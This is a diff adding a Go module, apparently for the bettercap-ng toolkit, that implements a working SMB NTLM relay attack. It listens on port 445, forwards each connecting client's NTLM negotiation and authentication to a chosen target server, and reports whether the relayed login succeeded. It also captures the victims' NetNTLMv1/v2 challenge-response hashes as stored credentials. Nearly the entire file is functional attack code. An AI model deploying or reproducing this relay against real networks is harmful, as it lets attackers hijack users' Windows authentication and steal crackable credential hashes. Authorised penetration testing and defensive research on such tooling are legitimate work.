@@ -0,0 +1,453 @@
+package modules
+
+import (
+	"crypto/rand"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/evilsocket/bettercap-ng/core"
+	"github.com/evilsocket/bettercap-ng/log"
+	"github.com/evilsocket/bettercap-ng/session"
+)
+
+const (
+	smbRelayIdleTimeout = 30 * time.Second
+	smbRelayTimeout     = 10 * time.Second
+)
+
+// Emitted as smb.relay.success or smb.relay.failure for each
+// NTLM authentication relayed to the target.
+type SMBRelayResult struct {
+	Client          string `json:"client"`
+	Target          string `json:"target"`
+	Domain          string `json:"domain"`
+	Username        string `json:"username"`
+	Workstation     string `json:"workstation"`
+	Status          string `json:"status"`
+	SigningRequired bool   `json:"signing_required"`
+}
+
+type SMBRelay struct {
+	session.SessionModule
+	listener net.Listener
+	target   string
+	guid     []byte
+	wg       sync.WaitGroup
+}
+
+type smbRelayConn struct {
+	net.Conn
+	relay     *SMBRelay
+	sessionID uint64
+	challenge []byte
+	// connection to the target the client authentication is relayed to
+	upstream        net.Conn
+	upMessageID     uint64
+	upSessionID     uint64
+	signingRequired bool
+}
+
+func NewSMBRelay(s *session.Session) *SMBRelay {
+	relay := &SMBRelay{
+		SessionModule: session.NewSessionModule("smb.relay", s),
+	}
+
+	relay.AddParam(session.NewStringParameter("smb.relay.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the SMB listener to."))
+
+	relay.AddParam(session.NewIntParameter("smb.relay.port",
+		"445",
+		"Port to bind the SMB listener to."))
+
+	relay.AddParam(session.NewStringParameter("smb.relay.target",
+		"",
+		"",
+		"HOST[:PORT] of the SMB server the NTLM authentications are relayed to."))
+
+	relay.AddHandler(session.NewModuleHandler("smb.relay on", "",
+		"Start the SMB listener.",
+		func(args []string) error {
+			return relay.Start()
+		}))
+
+	relay.AddHandler(session.NewModuleHandler("smb.relay off", "",
+		"Stop the SMB listener.",
+		func(args []string) error {
+			return relay.Stop()
+		}))
+
+	return relay
+}
+
+func (r *SMBRelay) Name() string {
+	return "smb.relay"
+}
+
+func (r *SMBRelay) Description() string {
+	return "An SMB listener relaying the NTLM authentication of its clients to a target host, the hashes are captured as well."
+}
+
+func (r *SMBRelay) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (r *SMBRelay) Configure() error {
+	var err error
+	var address string
+	var port int
+
+	if err, address = r.StringParam("smb.relay.address"); err != nil {
+		return err
+	} else if err, port = r.IntParam("smb.relay.port"); err != nil {
+		return err
+	} else if err, r.target = r.StringParam("smb.relay.target"); err != nil {
+		return err
+	} else if r.target == "" {
+		return fmt.Errorf("smb.relay.target is empty.")
+	}
+
+	if _, _, err := net.SplitHostPort(r.target); err != nil {
+		r.target = net.JoinHostPort(r.target, "445")
+	}
+
+	r.guid = make([]byte, 16)
+	if _, err = rand.Read(r.guid); err != nil {
+		return err
+	}
+
+	if r.listener, err = net.Listen("tcp", fmt.Sprintf("%s:%d", address, port)); err != nil {
+		return err
+	}
+
+	return nil
+}
+
+func (r *SMBRelay) Start() error {
+	if r.Running() == true {
+		return session.ErrAlreadyStarted
+	} else if err := r.Configure(); err != nil {
+		return err
+	}
+
+	r.SetRunning(true)
+
+	log.Info("SMB relay listening on %s, relaying to %s", r.listener.Addr(), r.target)
+
+	r.wg.Add(1)
+	go func() {
+		defer r.wg.Done()
+
+		for {
+			conn, err := r.listener.Accept()
+			if err != nil {
+				// closed by Stop
+				return
+			}
+
+			c := &smbRelayConn{
+				Conn:  conn,
+				relay: r,
+			}
+
+			go func() {
+				defer r.Session.Recover()
+				defer c.close()
+				log.Debug("(%s) New connection from %s", core.Green("smb"), conn.RemoteAddr())
+				c.serve()
+			}()
+		}
+	}()
+
+	return nil
+}
+
+func (r *SMBRelay) Stop() error {
+	if r.Running() == false {
+		return session.ErrAlreadyStopped
+	}
+	r.SetRunning(false)
+
+	r.listener.Close()
+	r.wg.Wait()
+
+	return nil
+}
+
+func (c *smbRelayConn) client() string {
+	host, _, _ := net.SplitHostPort(c.RemoteAddr().String())
+	return host
+}
+
+func (c *smbRelayConn) close() {
+	if c.upstream != nil {
+		c.upstream.Close()
+	}
+	c.Close()
+}
+
+func (c *smbRelayConn) reply(req smb2Header, status uint32, body []byte) error {
+	h := smb2Header{
+		Command:   req.Command,
+		Status:    status,
+		Credits:   1,
+		Flags:     smb2FlagResponse,
+		MessageID: req.MessageID,
+		SessionID: c.sessionID,
+	}
+	c.SetWriteDeadline(time.Now().Add(smbRelayIdleTimeout))
+	return writeSMBMessage(c.Conn, h.marshal(body))
+}
+
+func (c *smbRelayConn) serve() {
+	for {
+		c.SetReadDeadline(time.Now().Add(smbRelayIdleTimeout))
+		msg, err := readSMBMessage(c.Conn)
+		if err != nil {
+			return
+		}
+
+		// clients which still start with SMB1 are moved to SMB2
+		if isSMB1, dialect := smb1Negotiate(msg); isSMB1 == true {
+			if dialect == 0 {
+				log.Debug("(%s) %s only speaks SMB1.", core.Green("smb"), c.client())
+				return
+			}
+			h := smb2Header{Command: smb2Negotiate}
+			if c.reply(h, ntStatusSuccess, smb2NegotiateResponse(dialect, c.relay.guid, spnegoNegotiateHint())) != nil {
+				return
+			}
+			continue
+		}
+
+		req, err := parseSMB2Header(msg)
+		if err != nil {
+			log.Debug("(%s) %s: %s", core.Green("smb"), c.client(), err)
+			return
+		}
+
+		switch req.Command {
+		case smb2Negotiate:
+			if c.negotiate(req, msg) == false {
+				return
+			}
+
+		case smb2SessionSetup:
+			if c.sessionSetup(req, msg) == false {
+				return
+			}
+
+		default:
+			// nothing else is allowed before the session is set up
+			c.reply(req, ntStatusAccessDenied, smb2ErrorResponse())
+			return
+		}
+	}
+}
+
+func (c *smbRelayConn) negotiate(req smb2Header, msg []byte) bool {
+	offered, err := smb2NegotiateDialects(msg)
+	if err != nil {
+		log.Debug("(%s) %s: %s", core.Green("smb"), c.client(), err)
+		return false
+	}
+
+	for _, dialect := range smb2Dialects {
+		for _, d := range offered {
+			if d == dialect {
+				return c.reply(req, ntStatusSuccess, smb2NegotiateResponse(dialect, c.relay.guid, spnegoNegotiateHint())) == nil
+			}
+		}
+	}
+
+	log.Debug("(%s) %s offered no supported dialect: %x", core.Green("smb"), c.client(), offered)
+	c.reply(req, ntStatusNotSupported, smb2ErrorResponse())
+	return false
+}
+
+func (c *smbRelayConn) sessionSetup(req smb2Header, msg []byte) bool {
+	blob, err := parseSMB2SessionSetupRequest(msg)
+	if err != nil {
+		log.Debug("(%s) %s: %s", core.Green("smb"), c.client(), err)
+		return false
+	}
+
+	token := ntlmToken(blob)
+	switch ntlmMessageType(token) {
+	case ntlmNegotiate:
+		return c.relayNegotiate(req, blob)
+	case ntlmAuthenticate:
+		c.relayAuthenticate(req, blob, token)
+		return false
+	}
+
+	log.Debug("(%s) %s didn't send an NTLM token.", core.Green("smb"), c.client())
+	c.reply(req, ntStatusAccessDenied, smb2ErrorResponse())
+	return false
+}
+
+// Sends a request to the target and returns its final response.
+func (c *smbRelayConn) upstreamRequest(command uint16, body []byte) (smb2Header, []byte, error) {
+	h := smb2Header{
+		Command:   command,
+		Credits:   1,
+		MessageID: c.upMessageID,
+		SessionID: c.upSessionID,
+	}
+	c.upMessageID++
+
+	c.upstream.SetDeadline(time.Now().Add(smbRelayTimeout))
+	if err := writeSMBMessage(c.upstream, h.marshal(body)); err != nil {
+		return h, nil, err
+	}
+
+	for {
+		msg, err := readSMBMessage(c.upstream)
+		if err != nil {
+			return h, nil, err
+		}
+
+		resp, err := parseSMB2Header(msg)
+		if err != nil {
+			return h, nil, err
+		} else if resp.Status == ntStatusPending && resp.Flags&smb2FlagAsync != 0 {
+			continue
+		}
+		return resp, msg, nil
+	}
+}
+
+func (c *smbRelayConn) connectUpstream() error {
+	conn, err := net.DialTimeout("tcp", c.relay.target, smbRelayTimeout)
+	if err != nil {
+		return err
+	}
+	c.upstream = conn
+
+	resp, msg, err := c.upstreamRequest(smb2Negotiate, smb2NegotiateRequest(c.relay.guid))
+	if err != nil {
+		return err
+	} else if resp.Status != ntStatusSuccess {
+		return fmt.Errorf("negotiation failed with %s", ntStatusString(resp.Status))
+	}
+
+	mode, dialect, err := parseSMB2NegotiateResponse(msg)
+	if err != nil {
+		return err
+	}
+	c.signingRequired = mode&smb2SigningRequired != 0
+
+	log.Debug("(%s) Negotiated dialect %04x with %s, signing required: %v", core.Green("smb"), dialect, c.relay.target, c.signingRequired)
+	return nil
+}
+
+// Forwards the NTLMSSP NEGOTIATE of the client to the target
+// and the CHALLENGE of the target back to the client.
+func (c *smbRelayConn) relayNegotiate(req smb2Header, blob []byte) bool {
+	if c.upstream == nil {
+		if err := c.connectUpstream(); err != nil {
+			log.Warning("Could not relay SMB authentication of %s to %s: %s", c.client(), c.relay.target, err)
+			c.reply(req, ntStatusAccessDenied, smb2ErrorResponse())
+			return false
+		}
+	}
+
+	resp, msg, err := c.upstreamRequest(smb2SessionSetup, smb2SessionSetupRequest(blob))
+	if err == nil && resp.Status != ntStatusMoreProcessing {
+		err = fmt.Errorf("unexpected %s", ntStatusString(resp.Status))
+	}
+
+	var challenge []byte
+	if err == nil {
+		if challenge, err = parseSMB2SessionSetupResponse(msg); err == nil && ntlmServerChallenge(ntlmToken(challenge)) == nil {
+			err = fmt.Errorf("no NTLM challenge")
+		}
+	}
+
+	if err != nil {
+		log.Warning("Could not relay SMB authentication of %s to %s: %s", c.client(), c.relay.target, err)
+		c.reply(req, ntStatusAccessDenied, smb2ErrorResponse())
+		return false
+	}
+
+	c.upSessionID = resp.SessionID
+	c.challenge = ntlmServerChallenge(ntlmToken(challenge))
+	if c.sessionID == 0 {
+		id := make([]byte, 8)
+		rand.Read(id)
+		c.sessionID = binary.LittleEndian.Uint64(id) | 1
+	}
+
+	return c.reply(req, ntStatusMoreProcessing, smb2SessionSetupResponse(challenge)) == nil
+}
+
+// Captures the NTLMSSP AUTHENTICATE of the client and forwards it
+// to the target, the client is always denied access.
+func (c *smbRelayConn) relayAuthenticate(req smb2Header, blob []byte, token []byte) {
+	defer c.reply(req, ntStatusAccessDenied, smb2ErrorResponse())
+
+	auth, err := parseNTLMAuth(token)
+	if err != nil {
+		log.Debug("(%s) %s: %s", core.Green("smb"), c.client(), err)
+		return
+	} else if c.upstream == nil || c.challenge == nil {
+		log.Debug("(%s) %s authenticated before negotiating.", core.Green("smb"), c.client())
+		return
+	} else if auth.Username == "" {
+		log.Debug("(%s) Ignoring anonymous authentication of %s.", core.Green("smb"), c.client())
+		return
+	}
+
+	c.capture(auth)
+
+	result := SMBRelayResult{
+		Client:          c.client(),
+		Target:          c.relay.target,
+		Domain:          auth.Domain,
+		Username:        auth.Username,
+		Workstation:     auth.Workstation,
+		SigningRequired: c.signingRequired,
+	}
+
+	resp, _, err := c.upstreamRequest(smb2SessionSetup, smb2SessionSetupRequest(blob))
+	if err != nil {
+		result.Status = err.Error()
+	} else {
+		result.Status = ntStatusString(resp.Status)
+	}
+
+	if err == nil && resp.Status == ntStatusSuccess {
+		c.relay.Session.Events.Add("smb.relay.success", result)
+		c.upstreamRequest(smb2Logoff, smb2LogoffRequest())
+	} else {
+		c.relay.Session.Events.Add("smb.relay.failure", result)
+	}
+}
+
+func (c *smbRelayConn) capture(auth *ntlmAuth) {
+	cred := &session.Credential{
+		Protocol:    "smb",
+		Source:      c.client(),
+		Destination: c.relay.target,
+		Username:    auth.Username,
+		Domain:      auth.Domain,
+		Challenge:   hex.EncodeToString(c.challenge),
+		LMResponse:  hex.EncodeToString(auth.LMResponse),
+		NTResponse:  hex.EncodeToString(auth.NTResponse),
+	}
+
+	// v1 responses are always 24 bytes, v2 ones carry a blob
+	if len(auth.NTResponse) > 24 {
+		cred.Type = session.CredNetNTLMv2
+		cred.LMResponse = ""
+	} else {
+		cred.Type = session.CredNetNTLMv1
+	}
+
+	c.relay.Session.Creds.Add(cred)
+}